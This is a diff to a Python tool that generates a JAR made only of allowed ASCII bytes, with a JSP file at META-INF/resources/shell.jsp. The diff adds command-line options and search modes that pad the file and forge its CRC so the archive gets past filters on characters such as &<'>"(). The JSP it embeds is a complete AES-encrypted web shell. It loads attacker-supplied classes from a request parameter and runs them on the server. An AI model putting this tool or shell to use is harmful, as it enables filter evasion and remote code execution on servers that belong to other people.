@@ -3,8 +3,12 @@
 # date 2022-02-13
 from __future__ import print_function
 
-import time
+import argparse
+import string
+from contextlib import closing
 from compress import *
+from searchplan import PaddingTemplate, SearchPlanner, batch_search, frontier_search, parallel_search, solve_search
+from validator import verify_jar
 
 allow_bytes = []
 disallowed_bytes = [38,60,39,62,34,40,41] # &<'>"()
@@ -15,53 +19,109 @@ for b in range(0,128): # ASCII
 
 
 if __name__ == '__main__':
+    parser = argparse.ArgumentParser()
+    parser.add_argument('-w', '--workers', type=int, help='number of worker processes (default: CPU count)')
+    parser.add_argument('--solve', action='store_true', help='forge an allowed CRC with the last bytes of the padding')
+    parser.add_argument('--frontier', action='store_true', help='try every allowed padding char for each padding length')
+    parser.add_argument('--batch', nargs='+', metavar='DISALLOWED',
+                        help='also generate a jar for each of these sets of disallowed ASCII characters')
+    args = parser.parse_args()
+
     padding_char = 'A'
     raw_filename = 'shell.jsp'
     zip_entity_filename = 'META-INF/resources/shell.jsp'
     jar_filename = 'ascii02.jar'
-    num = 1
-    while True:
-        # step1 动态生成java代码并编译
-        javaCode = """
+    planner = SearchPlanner(allow_bytes, zip_entity_filename)
+
+    # step1 生成带填充占位符的jsp代码
+    javaCode = """
 <!-- {PADDING_DATA} -->
 <%! String xc="3c6e0b8a9c15224a"; String pass="pass"; String md5=md5(pass+xc); class X extends ClassLoader{public X(ClassLoader z){super(z);}public Class Q(byte[] cb){return super.defineClass(cb, 0, cb.length);} }public byte[] x(byte[] s,boolean m){ try{javax.crypto.Cipher c=javax.crypto.Cipher.getInstance("AES");c.init(m?1:2,new javax.crypto.spec.SecretKeySpec(xc.getBytes(),"AES"));return c.doFinal(s); }catch (Exception e){return null; }} public static String md5(String s) {String ret = null;try {java.security.MessageDigest m;m = java.security.MessageDigest.getInstance("MD5");m.update(s.getBytes(), 0, s.length());ret = new java.math.BigInteger(1, m.digest()).toString(16).toUpperCase();} catch (Exception e) {}return ret; } public static String base64Encode(byte[] bs) throws Exception {Class base64;String value = null;try {base64=Class.forName("java.util.Base64");Object Encoder = base64.getMethod("getEncoder", null).invoke(base64, null);value = (String)Encoder.getClass().getMethod("encodeToString", new Class[] { byte[].class }).invoke(Encoder, new Object[] { bs });} catch (Exception e) {try { base64=Class.forName("sun.misc.BASE64Encoder"); Object Encoder = base64.newInstance(); value = (String)Encoder.getClass().getMethod("encode", new Class[] { byte[].class }).invoke(Encoder, new Object[] { bs });} catch (Exception e2) {}}return value; } public static byte[] base64Decode(String bs) throws Exception {Class base64;byte[] value = null;try {base64=Class.forName("java.util.Base64");Object decoder = base64.getMethod("getDecoder", null).invoke(base64, null);value = (byte[])decoder.getClass().getMethod("decode", new Class[] { String.class }).invoke(decoder, new Object[] { bs });} catch (Exception e) {try { base64=Class.forName("sun.misc.BASE64Decoder"); Object decoder = base64.newInstance(); value = (byte[])decoder.getClass().getMethod("decodeBuffer", new Class[] { String.class }).invoke(decoder, new Object[] { bs });} catch (Exception e2) {}}return value; }%><%try{byte[] data=base64Decode(request.getParameter(pass));data=x(data, false);if (session.getAttribute("payload")==null){session.setAttribute("payload",new X(this.getClass().getClassLoader()).Q(data));}else{request.setAttribute("parameters",data);java.io.ByteArrayOutputStream arrOut=new java.io.ByteArrayOutputStream();Object f=((Class)session.getAttribute("payload")).newInstance();f.equals(arrOut);f.equals(pageContext);response.getWriter().write(md5.substring(0,16));f.toString();response.getWriter().write(base64Encode(x(arrOut.toByteArray(), true)));response.getWriter().write(md5.substring(16));} }catch (Exception e){}
 %>
             """
-        padding_data = padding_char * num
-        javaCode = javaCode.replace("{PADDING_DATA}", padding_data)
-
-        f = open(raw_filename, 'w')
-        f.write(javaCode)
-        f.close()
-        time.sleep(0.1)
-
-        # step02 计算压缩之后的各个部分是否在允许的ASCII范围
-        raw_data = bytearray(open(raw_filename, 'rb').read())
-        compressor = ASCIICompressor(bytearray(allow_bytes))
-        compressed_data = compressor.compress(raw_data)[0]
-        crc = zlib.crc32(raw_data) % pow(2, 32)
+    template = PaddingTemplate(javaCode, padding_char)
 
-        st_crc = struct.pack('<L', crc)
-        st_raw_data = struct.pack('<L', len(raw_data) % pow(2, 32))
-        st_compressed_data = struct.pack('<L', len(compressed_data) % pow(2, 32))
-        st_cdzf = struct.pack('<L', len(compressed_data) + len(zip_entity_filename) + 0x1e)
-
-
-        b_crc = isAllowBytes(st_crc, allow_bytes)
-        b_raw_data = isAllowBytes(st_raw_data, allow_bytes)
-        b_compressed_data = isAllowBytes(st_compressed_data, allow_bytes)
-        b_cdzf = isAllowBytes(st_cdzf, allow_bytes)
-
-        # step03 判断各个部分是否符在允许字节范围
-        if b_crc and b_raw_data and b_compressed_data and b_cdzf:
-            print('[+] CRC:{0} RDL:{1} CDL:{2} CDAFL:{3} Padding data: {4}*{5}'.format(b_crc, b_raw_data, b_compressed_data, b_cdzf, num, padding_char))
-            # step04 保存最终ascii jar
-            output = open(jar_filename, 'wb')
-            output.write(wrap_jar(raw_data,compressed_data, zip_entity_filename.encode()))
-            print('[+] Generate {0} success'.format(jar_filename))
-            break
+    if args.batch:
+        # step02 一次搜索同时为每个允许字节集合生成jar
+        alphabets = [allow_bytes] + [
+            [b for b in range(0,128) if chr(b) not in disallowed] for disallowed in args.batch
+        ]
+        results = batch_search(template, alphabets, zip_entity_filename)
+        for index, (num, raw_data, compressed_data, error) in enumerate(results):
+            filename = jar_filename if index == 0 else jar_filename.replace('.jar', '_{0}.jar'.format(index))
+            if error is not None:
+                print('[-] {0}: {1}'.format(filename, error))
+                continue
+            jar = JarWriter()
+            jar.add(zip_entity_filename, raw_data, compressed_data)
+            with open(filename, 'wb') as output:
+                jar.write(output)
+            verify_jar(jar.data(), {zip_entity_filename: raw_data}, alphabets[index])
+            print('[+] Generate {0} success, Padding data: {1}*{2}'.format(filename, num, padding_char))
+    else:
+        # step02 按代价从低到高依次检查各个部分是否在允许的ASCII范围
+        if args.solve:
+            # 用填充末尾的字母数字直接构造出合法的CRC
+            charset = [b for b in bytearray((string.ascii_letters + string.digits).encode()) if b in allow_bytes]
+            free_bytes = 12
+            search = solve_search(template, allow_bytes, zip_entity_filename, charset,
+                                  free_bytes)
+            candidates = (
+                (num, padding_char.encode(), raw_data, compressed_data, rejection)
+                for num, raw_data, compressed_data, rejection in search
+            )
+        elif args.frontier:
+            # 多进程同时尝试填充长度和填充字符，先试短的填充
+            padding_chars = [padding_char.encode()] + [
+                bytes(bytearray([b])) for b in allow_bytes if b not in (0, ord(padding_char))]
+            search = frontier_search(
+                template, allow_bytes, zip_entity_filename, padding_chars,
+                workers=args.workers)
+            candidates = (
+                (num, char, None, compressed_data, rejection)
+                for num, char, site, compressed_data, rejection in search
+            )
         else:
-            print('[-] CRC:{0} RDL:{1} CDL:{2} CDAFL:{3} Padding data: {4}*{5}'.format(b_crc, b_raw_data,
-                                                                                       b_compressed_data, b_cdzf, num,
-                                                                                       padding_char))
-        num = num + 1
+            # 多进程依次尝试各个填充长度
+            search = parallel_search(
+                template.render, allow_bytes, zip_entity_filename,
+                workers=args.workers, crc=template.crc)
+            candidates = (
+                (num, padding_char.encode(), None, compressed_data, rejection)
+                for num, compressed_data, rejection in search
+            )
+        # 无论如何结束都关闭搜索，停止进程池
+        with closing(search):
+            for num, char, raw_data, compressed_data, rejection in candidates:
+                planner.record(rejection)
+                if args.solve and rejection not in ('RDL', 'CRC'):
+                    # 填充末尾的字节是构造出来的，给出真实的内容
+                    end = template.padding_offset + num
+                    padding = '{0} bytes, last {1} forged: {2}'.format(
+                        num, free_bytes, bytes(raw_data[end-free_bytes:end]).decode())
+                else:
+                    padding = '{0}*{1}'.format(num, repr(char)[2:-1])
+
+                # step03 判断各个部分是否符在允许字节范围
+                if compressed_data is not None:
+                    print('[+] CRC:True RDL:True CDL:True CDAFL:True Padding data: {0}'.format(padding))
+                    # 立即关闭搜索，取消还在排队的候选
+                    search.close()
+                    # step04 保存最终ascii jar
+                    if raw_data is None:
+                        raw_data = template.render(num, char)
+                    f = open(raw_filename, 'wb')
+                    f.write(raw_data)
+                    f.close()
+                    jar = JarWriter()
+                    jar.add(zip_entity_filename, raw_data, compressed_data)
+                    with open(jar_filename, 'wb') as output:
+                        jar.write(output)
+                    print('[+] Generate {0} success'.format(jar_filename))
+                    # step05 校验jar的每个字节以及解压结果
+                    verify_jar(jar.data(), {zip_entity_filename: raw_data}, allow_bytes)
+                    print('[+] Verify {0} success'.format(jar_filename))
+                    break
+                else:
+                    print('[-] {0}:False Padding data: {1}'.format(rejection, padding))
+        print(planner.report())